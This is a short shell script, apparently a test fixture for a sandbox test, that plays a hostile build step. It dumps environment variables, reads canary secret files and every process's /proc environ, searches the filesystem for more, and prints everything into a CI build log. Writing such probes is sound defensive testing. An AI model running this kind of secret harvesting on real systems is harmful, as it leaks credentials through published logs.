#!/bin/sh
# Test data of tests/test_sandbox.py: what a hostile patch runs in its build
# (a Makefile's $(shell)): look for the host's secrets everywhere it can and
# print them into the build log, which orch keeps and CI publishes.
echo "ORCH-CANARY-PROBE build: uid $(id -u), cwd $(pwd)"
echo "env: $(env | tr '\n' ' ')"
for f in /root/.orch-canary "$HOME/.orch-canary" /home/*/.orch-canary; do
    echo "$f: $(cat "$f" 2>&1)"
done
for f in /proc/[0-9]*/environ; do
    echo "$f: $(tr '\0' ' ' < "$f" 2>&1)"
done
find / \( -path /proc -o -path /sys -o -path /dev -o -path /usr \) -prune \
    -o -name '.orch-canary*' -print 2>/dev/null | head -20 | while read -r f; do
    echo "found $f: $(cat "$f" 2>&1)"
done
echo "ORCH-CANARY-PROBE build: done"
